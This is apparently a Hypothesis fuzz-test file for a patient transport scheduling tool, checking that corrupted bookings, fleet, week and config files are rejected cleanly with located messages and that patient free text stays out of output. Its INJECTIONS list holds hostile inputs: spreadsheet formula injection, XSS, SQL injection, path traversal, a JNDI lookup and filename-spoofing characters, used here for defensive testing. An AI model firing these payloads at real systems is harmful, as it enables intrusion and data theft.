"""Malformed bookings, fleet, config and week files never crash: exit 2, a located message."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pts_optimiser.cli import main
from pts_optimiser.domain.config import load_config
from pts_optimiser.domain.diagnostics import Code, InputError, Severity
from pts_optimiser.io.parse import Inputs, parse_service_date
from pts_optimiser.services.week import read_week

FIXTURES = Path(__file__).parent / "fixtures"
DAY = FIXTURES / "tiny_day"
WEEK = FIXTURES / "tiny_week"  # pts generate --seed 3 --journeys 10 --vehicles 4 --days 3
RUNNER = CliRunner()
FUZZ = settings(max_examples=400, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])

# Cell values that break readers: empty, padded, huge, non-finite, wrong types, odd text.
odd_cells = st.one_of(
    st.sampled_from(["", " ", "nan", "inf", "-inf", "1e309", "-1", "0", "99999999999999999999",
                     "24:00", "25:61", "7:5", "09:30:99", "2026-13-01", "seated;", ";;",
                     "two_crew;oxygen;bariatric", "ÿ", "\u00a0", "None", "TRUE", "52,9"]),
    st.text(max_size=12),
    st.integers(-10**6, 10**6).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)


def _rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def _csv(columns: list[str], rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, lineterminator="\n", extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


@st.composite
def broken_table(draw: st.DrawFn, path: Path) -> str:
    """A valid file with some cells, columns or bytes corrupted."""
    columns, rows = _rows(path)
    kind = draw(st.sampled_from(["cells", "cells", "cells", "drop_column", "rename_column",
                                 "truncate", "garbage"]))
    if kind == "cells":
        for _ in range(draw(st.integers(1, 4))):
            row = draw(st.integers(0, len(rows) - 1))
            rows[row][draw(st.sampled_from(columns))] = draw(odd_cells)
    elif kind == "drop_column":
        columns.remove(draw(st.sampled_from(columns)))
    elif kind == "rename_column":
        index = draw(st.integers(0, len(columns) - 1))
        columns[index] = draw(st.text(min_size=1, max_size=10))
    text = _csv(columns, rows)
    if kind == "truncate":
        text = text[:draw(st.integers(0, len(text)))]
    elif kind == "garbage":
        text = draw(st.text(max_size=200))
    return text


def _validate(tmp_path: Path, bookings: str | None = None, fleet: str | None = None,
              config: str | None = None) -> None:
    paths = {"bookings": DAY / "bookings.csv", "fleet": DAY / "fleet.csv"}
    for name, text in (("bookings", bookings), ("fleet", fleet)):
        if text is not None:
            paths[name] = tmp_path / f"{name}.csv"
            paths[name].write_text(text, encoding="utf-8", errors="surrogateescape")
    args = ["validate", "--bookings", str(paths["bookings"]), "--fleet", str(paths["fleet"])]
    if config is not None:
        (tmp_path / "config.toml").write_text(config, encoding="utf-8",
                                              errors="surrogateescape")
        args += ["--config", str(tmp_path / "config.toml")]
    result = RUNNER.invoke(main, args)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 2), result.output
    assert "Traceback" not in result.output
    if result.exit_code == 2:
        assert "error [" in result.output and "Fix:" in result.output


@FUZZ
@given(text=broken_table(DAY / "bookings.csv"))
def test_broken_bookings(tmp_path: Path, text: str) -> None:
    """Corrupted bookings: read cleanly or rejected with located errors."""
    _validate(tmp_path, bookings=text)


@FUZZ
@given(text=broken_table(DAY / "fleet.csv"))
def test_broken_fleet(tmp_path: Path, text: str) -> None:
    """Corrupted fleet: read cleanly or rejected with located errors."""
    _validate(tmp_path, fleet=text)


def _read_week(tmp_path: Path, bookings: str | None = None, fleet: str | None = None) -> None:
    """Read as pts week reads: the days, or an InputError whose every error says where and how."""
    paths = {"bookings": WEEK / "bookings.csv", "fleet": WEEK / "fleet.csv"}
    for name, text in (("bookings", bookings), ("fleet", fleet)):
        if text is not None:
            paths[name] = tmp_path / f"{name}.csv"
            paths[name].write_text(text, encoding="utf-8", errors="surrogateescape")
    try:
        days, warnings = read_week(Inputs(paths["bookings"], paths["fleet"]), load_config())
    except InputError as refused:
        errors = [f for f in refused.findings if f.severity is Severity.ERROR]
        assert errors
        assert all(f.file and f.hint for f in errors)
        # One finding for one place: a row read into every day is not listed for each.
        assert len(set(refused.findings)) == len(refused.findings)
        # The week plans every day: no day's reading tells the user to plan the others.
        assert all(f.code is not Code.OTHER_DAYS_LEFT_OUT for f in refused.findings)
        return
    assert days and all(problem.journeys for problem in days.values())
    assert all(f.code is not Code.OTHER_DAYS_LEFT_OUT for f in warnings)


@settings(FUZZ, max_examples=150)  # each reads three days: 150 keep it to about 2 s
@given(kind=st.sampled_from(["bookings", "fleet"]), data=st.data())
def test_broken_week(tmp_path: Path, kind: str, data: st.DataObject) -> None:
    """A corrupted week's bookings or fleet: read into days, or refused with its findings."""
    _read_week(tmp_path, **{kind: data.draw(broken_table(WEEK / f"{kind}.csv"))})


config_keys = st.sampled_from([
    "travel.speed_kmh", "travel.road_factor", "travel.provider", "service.seated_min",
    "breaks.default_break_min", "breaks.earliest_after_start_min", "purposes.dialysis.priority",
    "objective.vehicle_cost", "co2.diesel_kg_per_km", "maps.privacy", "output.group_readable",
    "kpi.renal_collect_target_pct", "nonsense.key", "ride.direct_factor"])
toml_values = st.one_of(st.integers(-10**12, 10**12).map(str), st.floats().map(repr),
                        st.booleans().map(lambda b: str(b).lower()),
                        st.text(max_size=10).map(lambda t: '"' + t.replace('"', "").replace(
                            "\\", "") + '"'),
                        st.sampled_from(["[1, 2]", "{}", "nan", "inf", '""']))


@FUZZ
@given(pairs=st.lists(st.tuples(config_keys, toml_values), min_size=1, max_size=4),
       garbage=st.one_of(st.none(), st.text(max_size=40)))
def test_broken_config(tmp_path: Path, pairs: list[tuple[str, str]], garbage: str | None) -> None:
    """Wrong, unknown or unreadable settings: accepted or rejected with the key named."""
    lines = []
    for key, value in dict(pairs).items():
        table, _, name = key.rpartition(".")
        lines.append(f"[{table}]\n{name} = {value}\n")
    _validate(tmp_path, config=garbage if garbage is not None else "".join(lines))


# Strings a hostile or careless export may hold: formulas, markup, paths, format strings,
# control and text-direction characters, device names, very long text.
INJECTIONS = [
    "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.invalid")',
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE bookings;--",
    "../../etc/passwd", "..\\..\\windows\\system32", "CON", "NUL", "%s%s%n", "{0}{1!r}",
    "${jndi:ldap://x.invalid/a}", "CAR01\u202eLMTH.exe", "A\u200bB", "A\x00B", "\x1b[31mred",
    "a\r\nb", "\t", "x" * 300, "😀", "\ufeffBOM", "line\u2028sep", "A 1", "A_1", "a.1", "",
]
hostile_text = st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=80),
                         st.lists(st.sampled_from(INJECTIONS), max_size=3).map("".join))
MARKER = "Zebedee"  # stands for a patient's name typed into free text
ID_COLUMNS = {"bookings": ["journey_id", "patient_id"], "fleet": ["vehicle_id"]}
TEXT_COLUMNS = {"bookings": ["pickup_label", "dropoff_label", "ward_note"],
                "fleet": ["vehicle_type"]}


def _hostile_run(tmp_path: Path, kind: str, cells: list[tuple[int, str, str]]) -> str:
    columns, rows = _rows(DAY / f"{kind}.csv")
    for row, column, value in cells:
        rows[row % len(rows)][column] = value
    return _validate_output(tmp_path, **{kind: _csv(columns, rows)})


def _validate_output(tmp_path: Path, bookings: str | None = None,
                     fleet: str | None = None) -> str:
    paths = {"bookings": DAY / "bookings.csv", "fleet": DAY / "fleet.csv"}
    for name, text in (("bookings", bookings), ("fleet", fleet)):
        if text is not None:
            paths[name] = tmp_path / f"{name}.csv"
            paths[name].write_text(text, encoding="utf-8", errors="surrogateescape")
    result = RUNNER.invoke(main, ["validate", "--bookings", str(paths["bookings"]),
                                  "--fleet", str(paths["fleet"])])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 2), result.output
    assert "Traceback" not in result.output
    for line in result.output.splitlines():
        if line.startswith("error ["):
            assert " row " in line and "Fix:" in line, line  # every cell finding is located
    return result.output


@FUZZ
@given(kind=st.sampled_from(["bookings", "fleet"]), data=st.data())
def test_hostile_identifiers(tmp_path: Path, kind: str, data: st.DataObject) -> None:
    """Injection strings and hostile ids: accepted, or refused with row and column."""
    cells = data.draw(st.lists(st.tuples(st.integers(0, 20), st.sampled_from(ID_COLUMNS[kind]),
                                         hostile_text), min_size=1, max_size=4))
    _hostile_run(tmp_path, kind, cells)


@FUZZ
@given(kind=st.sampled_from(["bookings", "fleet"]), data=st.data())
def test_hostile_free_text_stays_out_of_messages(tmp_path: Path, kind: str,
                                                 data: st.DataObject) -> None:
    """Injection strings in labels and notes never crash validation nor reach its output."""
    cells = data.draw(st.lists(st.tuples(
        st.integers(0, 20), st.sampled_from(TEXT_COLUMNS[kind]),
        hostile_text.map(lambda text: f"{MARKER} {text}")), min_size=1, max_size=4))
    output = _hostile_run(tmp_path, kind, cells)
    assert MARKER not in output


@FUZZ
@given(day=st.dates(), form=st.sampled_from(["%Y-%m-%d", "%d/%m/%Y", "%-d/%-m/%Y",
                                             "%m/%d/%Y", "%Y%m%d", "%d-%m-%Y", "%G-W%V-%u"]))
def test_dates_read_right_or_refused(day: date, form: str) -> None:
    """A date is read as the day it was written for, or refused: never as another day."""
    text = day.strftime(form)
    read = parse_service_date(text)
    assert read is None or read == day.isoformat() or (
        form == "%m/%d/%Y" and day.day <= 12 and read == date(day.year, day.day,
                                                              day.month).isoformat())
    if form in ("%Y-%m-%d", "%d/%m/%Y", "%-d/%-m/%Y") and day.year >= 1000:
        assert read == day.isoformat()
